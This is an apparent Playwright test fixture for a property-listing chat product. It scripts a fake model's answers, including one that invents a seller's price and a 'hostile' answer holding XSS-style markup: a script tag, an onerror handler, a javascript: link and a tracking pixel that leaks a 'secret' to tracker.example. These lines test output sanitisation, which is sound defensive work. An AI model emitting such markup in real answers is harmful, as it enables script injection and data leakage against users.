import { rm } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { startModelFake, type ModelFake } from '#tests/fakes/model/model-fake.ts';
import type { Scenario } from '#tests/fakes/model/script.ts';
import { startProduct, type Product } from '#tests/support/product.ts';
import { copyDemoHome, demoEnvironment } from './demo-home.ts';
import { test as base } from './test.ts';

/** 60 numbered words in sentences of ten, since a sentence is shown when it is whole: what is missing or there twice shows. */
const slowWords = Array.from({ length: 60 }, (_, index) => `word${index + 1}${index % 10 === 9 ? '.' : ''} `);
export const SLOW_TEXT = slowWords.join('').trim();
const firstHalf = { say: slowWords.slice(0, 30), everyMs: 40 };
const secondHalf = { say: slowWords.slice(30), everyMs: 40 };

export const LONG_PARAGRAPHS = 60;
const paragraphs = Array.from(
  { length: LONG_PARAGRAPHS },
  (_, index) => `Paragraph ${index + 1} of an answer that outgrows the window.\n\n`,
);
const toTheWindowsEnd = { say: paragraphs.slice(0, 30), everyMs: 40 };
const beyondTheWindow = { say: paragraphs.slice(30), everyMs: 80 };

/** What a model under somebody else's influence may write. */
export const HOSTILE_ANSWER = [
  '<script>window.hacked = true</script><img src="https://tracker.example/html.png" onerror="window.hacked = true">',
  '[a link](javascript:window.hacked=true) and [data](data:text/html,hello) and [elsewhere](https://elsewhere.example/)',
  '![a house](https://tracker.example/pixel.png?secret=1)',
  `A word as long as a street: ${'x'.repeat(400)}`,
  `| Address | ${'Price '.repeat(30)} |\n|---|---|\n| 1 Elm St | ${'$1 '.repeat(60)} |`,
].join('\n\n');

const searchCondos = {
  name: 'search_listings',
  arguments: JSON.stringify({ propertyTypes: ['condominium'], price: { endAt: 3_000_000 } }),
};

const scenarios = {
  invents: [[[{ call: [searchCondos] }]], [[{ say: ['Condos up to $3,000,000; the seller of one **would take $1,234,567**.'] }]]],
  counts: [[[{ call: [searchCondos] }]], [[{ say: ['Here are the condos up to $3,000,000.'] }]]],
  /** Stands still in its middle until the test resumes it; asked again, after a restart, it goes through. */
  slow: [
    [
      [firstHalf, { pause: true }, secondHalf],
      [firstHalf, secondHalf],
    ],
  ],
  /** Outgrows the window; stands still when it has filled it, and before its end. */
  long: [[[toTheWindowsEnd, { pause: true }, beyondTheWindow, { pause: true }]]],
  'slow-thinking': [
    [[{ think: ['The agent ', 'wants ', 'a garage. '] }, { pause: true }, { think: ['So do I.'] }, { say: ['Here.'] }]],
  ],
  hostile: [[[{ say: [HOSTILE_ANSWER] }]]],
} satisfies Record<string, Scenario>;

interface ScriptedFixtures {
  model: ModelFake;
  /** Where the product keeps its data, and the process that runs now. */
  home: { dataDir: string; port: number; running: Product };
  /** kill -9, and the same product again on the same port and data. */
  killAndRestart: () => Promise<void>;
}

/** The journeys' test, on a product whose model is scripted: a prompt that holds `scenario:NAME` gets that answer. */
export const test = base.extend<object, ScriptedFixtures>({
  model: [
    async ({}, use) => {
      const model = await startModelFake({ extra: scenarios });
      await use(model);
      await model.stop();
    },
    { scope: 'worker' },
  ],

  home: [
    async ({ model }, use) => {
      const dataDir = await copyDemoHome();
      const running = await startProduct({ dataDir, environment: environmentFor(model) });
      const home = { dataDir, port: Number(new URL(running.url).port), running };
      await use(home);
      await home.running.stop();
      await rm(dataDir, { recursive: true, force: true });
    },
    { scope: 'worker', timeout: 180_000 },
  ],

  product: [async ({ home }, use) => use(home.running), { scope: 'worker' }],

  killAndRestart: [
    async ({ home, model }, use) =>
      use(async () => {
        await home.running.kill();
        home.running = await startProduct({ dataDir: home.dataDir, port: home.port, environment: environmentFor(model) });
      }),
    { scope: 'worker' },
  ],
});

function environmentFor(model: ModelFake): Record<string, string> {
  return {
    ...demoEnvironment,
    LOG_LEVEL: 'fatal',
    ASSISTANT_MODEL: 'openai-compatible:fake',
    ASSISTANT_BASE_URL: model.baseUrl,
  };
}

/** Makes an empty thread and opens it. */
export async function openNewThread(page: Page, product: Product, cookie: string, title = 'A chat'): Promise<string> {
  const id = await newThread(product, cookie, title);
  await page.goto(`/chat/${id}`);
  return id;
}

export async function newThread(product: Product, cookie: string, title = 'A chat'): Promise<string> {
  const answer = await product.call(cookie, 'POST', '/api/chat/threads', { title });
  if (!answer.ok) throw new Error(`The thread was not made: ${answer.status} ${await answer.text()}`);
  return ((await answer.json()) as { id: string }).id;
}

export { expect } from '@playwright/test';
